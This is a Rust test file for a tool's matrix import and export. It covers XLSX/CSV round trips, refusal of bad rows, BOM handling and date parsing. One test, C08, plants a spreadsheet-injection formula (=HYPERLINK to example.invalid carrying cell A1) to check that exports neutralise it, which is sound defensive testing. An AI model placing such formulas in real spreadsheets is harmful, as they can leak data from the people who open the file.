//! Follow-up matrix import (issue 4) on the demo committee, through a real node: round trips
//! (XLSX and CSV), refusals that write nothing, and cases C03, C07, C08 and C09; plus the
//! exported XLSX read by an independent reader (Python's openpyxl).

use jiff::civil::{Date, date};
use lajna_domain::records::{Action, Indicator};
use lajna_domain::{ActionStatus, Actor, Command, Lang, LocalizedText, PartyCode, Progress, RecordKind};
use lajna_node::import::{ImportOutcome, Importer};
use lajna_node::{Node, demo};
use lajna_outputs::import::{Column, MatrixImport, Outcome, read};
use lajna_outputs::matrix::{MatrixRow, headers, rows, to_csv, to_xlsx};

async fn demo_node() -> (tempfile::TempDir, Node) {
    let dir = tempfile::tempdir().unwrap();
    let node = demo::build(&dir.path().join("data")).await.unwrap();
    (dir, node)
}

async fn matrix_rows(node: &Node, lang: Lang) -> Vec<MatrixRow> {
    let today = node.today();
    node.with_state(|s| rows(s, lang, today)).await
}

async fn snapshot(node: &Node) -> (i64, String) {
    (node.store.event_count().await.unwrap(), node.store.state_hash().await.unwrap())
}

async fn preview(node: &Node, m: &MatrixImport) -> ImportOutcome {
    node.import_matrix(&Importer::Operator, m, false).await.unwrap()
}

/// Every row of the plan, as (sheet row, outcome code).
fn outcomes(o: &ImportOutcome) -> Vec<(u32, &'static str)> {
    o.plan
        .rows
        .iter()
        .map(|r| {
            let code = match r.outcome {
                Outcome::Create(_) => "create",
                Outcome::Update { .. } => "update",
                Outcome::Unchanged { .. } => "unchanged",
                Outcome::Refused(_) => "refused",
            };
            (r.row, code)
        })
        .collect()
}

fn refusal_keys(o: &ImportOutcome, row: u32) -> Vec<&'static str> {
    match &o.plan.rows.iter().find(|r| r.row == row).unwrap().outcome {
        Outcome::Refused(reasons) => reasons.iter().map(|r| r.key).collect(),
        other => panic!("row {row} is not refused: {other:?}"),
    }
}

/// The cells of a row as the export writes them (text).
fn cells(r: &MatrixRow) -> Vec<String> {
    lajna_outputs::matrix::cells(r).to_vec()
}

fn csv_of(lang: Lang, lines: &[Vec<String>]) -> Vec<u8> {
    let mut w = csv::Writer::from_writer(Vec::new());
    w.write_record(headers(lang)).unwrap();
    for l in lines {
        w.write_record(l).unwrap();
    }
    w.into_inner().unwrap()
}

async fn plan_action(node: &Node, title: LocalizedText, unit: LocalizedText, indicator: Option<Indicator>) -> String {
    let (roadmap, area) = node
        .with_state(|s| {
            let roadmap = s.all::<lajna_domain::records::Roadmap>(RecordKind::Roadmap)[0].0.clone();
            let mut areas = s.all::<lajna_domain::records::Area>(RecordKind::Area);
            areas.sort_by_key(|(_, a)| a.ordinal);
            (roadmap, areas[0].0.clone())
        })
        .await;
    let action = Action {
        roadmap,
        area,
        title,
        owner: PartyCode::parse("MAR").unwrap(),
        unit,
        lead: None,
        start: date(2025, 3, 1),
        due: date(2025, 12, 31),
        status: ActionStatus::InProgress,
        progress: Progress::new(40).unwrap(),
        weight: None,
        indicator,
        illustrative: false,
    };
    let actor = Actor { party: PartyCode::parse("MAR").unwrap(), member: None };
    node.execute(&actor, &Command::PlanAction(action)).await.unwrap()[0].to_hex()
}

#[tokio::test]
async fn exported_xlsx_and_csv_reimport_with_every_row_unchanged() {
    let (_dir, node) = demo_node().await;
    let before = snapshot(&node).await;
    for lang in Lang::ALL {
        let rows = matrix_rows(&node, lang).await;
        assert!(rows.len() >= 10, "the demo has a roadmap: {}", rows.len());
        for (format, bytes) in [("xlsx", to_xlsx(&rows, lang).unwrap()), ("csv", to_csv(&rows, lang).unwrap())] {
            let m = read(&bytes).unwrap();
            assert_eq!(m.lang, lang, "{format}");
            assert_eq!(m.columns, Column::ALL.to_vec(), "{format} {lang:?}");
            let o = node.import_matrix(&Importer::Operator, &m, true).await.unwrap();
            let expected: Vec<(u32, &str)> = (0..rows.len()).map(|i| (i as u32 + 2, "unchanged")).collect();
            assert_eq!(outcomes(&o), expected, "{format} {lang:?}");
            assert!(o.written.is_empty());
        }
    }
    assert_eq!(snapshot(&node).await, before, "a no-change import writes nothing");
}

#[tokio::test]
async fn a_bad_row_of_each_kind_is_refused_with_its_row_and_reason_and_nothing_is_written() {
    let (_dir, node) = demo_node().await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let good = cells(&rows[0]);
    let mut bad_date = cells(&rows[1]);
    bad_date[7] = "31/02/2025".into();
    let mut unknown_area = cells(&rows[2]);
    unknown_area[1] = "Coopération spatiale".into();
    let mut progress_140 = cells(&rows[3]);
    progress_140[9] = "140".into();
    let duplicate = cells(&rows[0]);
    let mut empty_title = cells(&rows[4]);
    empty_title[0] = String::new();
    empty_title[2] = String::new();
    empty_title[3] = "  ".into();
    // A valid change too: it is not written either, because the file has refused rows.
    let mut update = cells(&rows[5]);
    update[9] = if rows[5].progress == 50 { "55".into() } else { "50".into() };
    update[8] = "in_progress".into();
    let mut unknown_status = cells(&rows[6]);
    unknown_status[8] = "en cours".into();
    let mut unknown_owner = cells(&rows[7]);
    unknown_owner[4] = "FRA".into();
    let mut already_there = cells(&rows[8]);
    already_there[0] = String::new();
    let bytes = csv_of(
        Lang::Fr,
        &[
            good,
            bad_date,
            unknown_area,
            progress_140,
            duplicate,
            empty_title,
            update,
            unknown_status,
            unknown_owner,
            already_there,
        ],
    );
    let m = read(&bytes).unwrap();
    let before = snapshot(&node).await;
    let o = node.import_matrix(&Importer::Operator, &m, true).await.unwrap();
    assert_eq!(
        outcomes(&o),
        vec![
            (2, "unchanged"),
            (3, "refused"),
            (4, "refused"),
            (5, "refused"),
            (6, "refused"),
            (7, "refused"),
            (8, "update"),
            (9, "refused"),
            (10, "refused"),
            (11, "refused")
        ]
    );
    assert_eq!(refusal_keys(&o, 9), vec!["import-unknown-status"]);
    assert_eq!(refusal_keys(&o, 10), vec!["import-unknown-owner"]);
    assert_eq!(refusal_keys(&o, 11), vec!["import-exists"], "a row without id for a recorded action");
    assert_eq!(refusal_keys(&o, 3), vec!["import-bad-date"]);
    assert_eq!(refusal_keys(&o, 4), vec!["import-unknown-area"]);
    assert_eq!(refusal_keys(&o, 5), vec!["import-bad-progress"]);
    assert_eq!(refusal_keys(&o, 6), vec!["import-duplicate-row"]);
    assert_eq!(refusal_keys(&o, 7), vec!["import-empty-title"]);
    let Outcome::Refused(r) = &o.plan.rows[1].outcome else { unreachable!() };
    assert_eq!((r[0].field, r[0].detail.as_str()), (Some("due"), "31/02/2025"));
    let Outcome::Refused(r) = &o.plan.rows[4].outcome else { unreachable!() };
    assert_eq!(r[0].detail, "2", "the duplicate names the first row");
    let counts = o.plan.counts();
    assert_eq!((counts.refused, counts.updated, counts.unchanged, counts.created), (8, 1, 1, 0));
    assert!(o.written.is_empty());
    assert_eq!(snapshot(&node).await, before, "a file with a refused row writes nothing");
}

#[tokio::test]
async fn changes_are_written_all_at_once_and_then_read_back_unchanged() {
    let (_dir, node) = demo_node().await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    // Rows picked by property (ids, hence the order of equal due dates, are random per run).
    let p = rows.iter().position(|r| r.status != "in_progress" && r.status != "done").unwrap();
    let (u, n) = ((p + 1) % rows.len(), (p + 2) % rows.len());
    let mut update = cells(&rows[u]);
    update[3] = format!("{} (révisé)", rows[u].title_fr);
    let mut progress_only = cells(&rows[p]);
    progress_only[8] = "in_progress".into();
    progress_only[9] = "٧٥".into(); // C03: Arabic-Indic digits are a number
    let mut new = cells(&rows[n]);
    new[0] = String::new();
    new[2] = "تدريب 12 ضابطاً — phase 2".into();
    new[3] = "Former 12 officiers — phase 2".into();
    let (count, _) = snapshot(&node).await;
    let m = read(&csv_of(Lang::Fr, &[update, progress_only, new])).unwrap();
    let o = node.import_matrix(&Importer::Operator, &m, true).await.unwrap();
    assert_eq!(outcomes(&o), vec![(2, "update"), (3, "update"), (4, "create")]);
    let Outcome::Update { changed, command, .. } = &o.plan.rows[1].outcome else { unreachable!() };
    assert_eq!(changed, &vec!["status", "progress"]);
    assert!(matches!(**command, Command::ReportProgress { .. }), "{command:?}");
    assert_eq!(o.written.len(), 3);
    assert_eq!(node.store.event_count().await.unwrap(), count + 3);
    let a: Action = node.with_state(|s| s.get(RecordKind::Action, &rows[p].id).unwrap()).await;
    assert_eq!((a.status, a.progress.percent()), (ActionStatus::InProgress, 75));
    let created: Action = node.with_state(|s| s.get(RecordKind::Action, &o.written[2].to_hex()).unwrap()).await;
    assert_eq!(created.title.fr.as_deref(), Some("Former 12 officiers — phase 2"));
    assert_eq!(created.area, node.with_state(|s| s.get::<Action>(RecordKind::Action, &rows[n].id).unwrap().area).await);
    // The record as now exported reads back unchanged.
    let after = matrix_rows(&node, Lang::Fr).await;
    let again = preview(&node, &read(&to_csv(&after, Lang::Fr).unwrap()).unwrap()).await;
    assert!(outcomes(&again).iter().all(|(_, o)| *o == "unchanged"), "{:?}", outcomes(&again));
}

/// Case C07: the CSV carries a BOM; a file without it is accepted the same, and the first
/// header never keeps U+FEFF; an Arabic title with an em dash round-trips.
#[tokio::test]
async fn c07_csv_with_or_without_bom() {
    let (_dir, node) = demo_node().await;
    let arabic = "تدريب 12 ضابطاً — phase 2";
    plan_action(
        &node,
        LocalizedText::tri(arabic, "Former 12 officiers — phase 2", ""),
        LocalizedText::tri("", "École", ""),
        None,
    )
    .await;
    let bytes = to_csv(&matrix_rows(&node, Lang::Ar).await, Lang::Ar).unwrap();
    assert_eq!(&bytes[..3], &[0xEF, 0xBB, 0xBF]);
    let with = read(&bytes).unwrap();
    let without = read(&bytes[3..]).unwrap();
    assert_eq!(with, without);
    assert_eq!(with.columns[0], Column::Id, "the first header is recognised, BOM or not");
    assert!(with.ignored.is_empty(), "{:?}", with.ignored);
    assert!(with.rows.iter().any(|r| r.values.as_ref().unwrap().title_ar.as_deref() == Some(arabic)));
    for m in [with, without] {
        assert!(outcomes(&preview(&node, &m).await).iter().all(|(_, o)| *o == "unchanged"));
    }
    // A hand-made file: a BOM-less header whose first cell is the id column.
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(!text.starts_with('\u{FEFF}') && text.starts_with("المعرف,"), "{}", &text[..20]);
}

/// Case C08: formula-looking text is neutralised on export and restored on import, in CSV
/// and XLSX; numbers stay numbers.
#[tokio::test]
async fn c08_reimport_restores_formula_looking_text() {
    let (_dir, node) = demo_node().await;
    let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1;\"Détails\")";
    let id = plan_action(
        &node,
        LocalizedText::tri("", evil, ""),
        LocalizedText::tri("", "@SUM(1+1)", ""),
        Some(Indicator {
            unit: LocalizedText::tri("", "-20 places de formation", ""),
            baseline: -20,
            target: 20,
            current: 0,
        }),
    )
    .await;
    let rows = matrix_rows(&node, Lang::Fr).await;
    let csv = to_csv(&rows, Lang::Fr).unwrap();
    assert!(String::from_utf8_lossy(&csv).contains("'=HYPERLINK("), "neutralised in the file");
    for bytes in [csv, to_xlsx(&rows, Lang::Fr).unwrap()] {
        let m = read(&bytes).unwrap();
        let row = m.rows.iter().find(|r| r.values.as_ref().unwrap().id.as_deref() == Some(id.as_str())).unwrap();
        let v = row.values.as_ref().unwrap();
        assert_eq!(v.title_fr.as_deref(), Some(evil));
        assert_eq!(v.unit.as_deref(), Some("@SUM(1+1)"));
        let i = v.indicator.clone().unwrap().unwrap();
        assert_eq!((i.unit.as_str(), i.baseline, i.target, i.current), ("-20 places de formation", -20, 20, 0));
        assert!(outcomes(&preview(&node, &m).await).iter().all(|(_, o)| *o == "unchanged"));
    }
}

/// Case C09: the "Échéance" column of a French matrix as a date cell, day-first text, a
/// date-time cell, a plain serial number — never 46022 as a number or a year.
#[tokio::test]
async fn c09_dates_from_cells_serials_and_day_first_text() {
    use rust_xlsxwriter::{ExcelDateTime, Format, Workbook};
    let (_dir, node) = demo_node().await;
    let h = headers(Lang::Fr);
    let mut book = Workbook::new();
    let sheet = book.add_worksheet();
    let cols = [1usize, 3, 4, 5, 6, 7, 8, 9];
    for (c, i) in cols.iter().enumerate() {
        sheet.write_string(0, c as u16, h[*i]).unwrap();
    }
    let day = Format::new().set_num_format("dd/mm/yyyy");
    let stamp = Format::new().set_num_format("dd/mm/yyyy hh:mm");
    for r in 1..=5u32 {
        let row = [
            "Formation du personnel militaire".to_string(),
            format!("Action C09 n° {r}"),
            "MAR".into(),
            "École".into(),
            "01/03/2025".into(),
        ];
        for (c, v) in row.iter().enumerate() {
            sheet.write_string(r, c as u16, v).unwrap();
        }
        sheet.write_string(r, 6, "planned").unwrap();
        sheet.write_number(r, 7, 0).unwrap();
    }
    sheet.write_datetime_with_format(1, 5, ExcelDateTime::from_ymd(2025, 12, 31).unwrap(), &day).unwrap();
    sheet.write_string(2, 5, "31/12/2025").unwrap();
    let at = ExcelDateTime::from_ymd(2025, 11, 18).unwrap().and_hms(10, 30, 0).unwrap();
    sheet.write_datetime_with_format(3, 5, at, &stamp).unwrap();
    sheet.write_string(4, 5, "03/04/2025").unwrap();
    sheet.write_number(5, 5, 46022).unwrap();
    let bytes = book.save_to_buffer().unwrap();
    let m = read(&bytes).unwrap();
    assert_eq!(m.lang, Lang::Fr);
    let due: Vec<Option<Date>> = m.rows.iter().map(|r| r.values.as_ref().unwrap().due).collect();
    assert_eq!(
        due,
        vec![
            Some(date(2025, 12, 31)),
            Some(date(2025, 12, 31)),
            Some(date(2025, 11, 18)),
            Some(date(2025, 4, 3)),
            Some(date(2025, 12, 31))
        ]
    );
    assert_eq!(m.rows[0].values.as_ref().unwrap().start, Some(date(2025, 3, 1)));
    let o = preview(&node, &m).await;
    assert_eq!(outcomes(&o), (2..=6).map(|r| (r, "create")).collect::<Vec<_>>());
    let Outcome::Create(a) = &o.plan.rows[3].outcome else { unreachable!() };
    assert_eq!((a.start, a.due), (date(2025, 3, 1), date(2025, 4, 3)));
}

/// The exported XLSX read by openpyxl (an independent reader) holds the values of
/// `matrix::rows`, no formula, a frozen header row, and a right-to-left sheet in Arabic.
#[tokio::test]
async fn openpyxl_reads_the_same_values_as_matrix_rows() {
    let (dir, node) = demo_node().await;
    plan_action(&node, LocalizedText::tri("", "=1+1", ""), LocalizedText::tri("", "+33 unité", ""), None).await;
    for lang in [Lang::Fr, Lang::Ar] {
        let rows = matrix_rows(&node, lang).await;
        let path = dir.path().join(format!("matrix-{}.xlsx", lang.code()));
        std::fs::write(&path, to_xlsx(&rows, lang).unwrap()).unwrap();
        let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/read_matrix.py");
        let out = std::process::Command::new("/usr/bin/python3").arg(script).arg(&path).output().unwrap();
        assert!(out.status.success(), "openpyxl: {}", String::from_utf8_lossy(&out.stderr));
        let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(doc["formulas"], 0);
        assert_eq!(doc["frozen"], "A2");
        assert_eq!(doc["rtl"], lang == Lang::Ar);
        let got: Vec<Vec<String>> = serde_json::from_value(doc["rows"].clone()).unwrap();
        let mut expected = vec![headers(lang).iter().map(|h| h.to_string()).collect::<Vec<_>>()];
        expected.extend(rows.iter().map(cells));
        assert_eq!(got.len(), expected.len());
        for (g, e) in got.iter().zip(&expected) {
            assert_eq!(g, e);
        }
    }
}
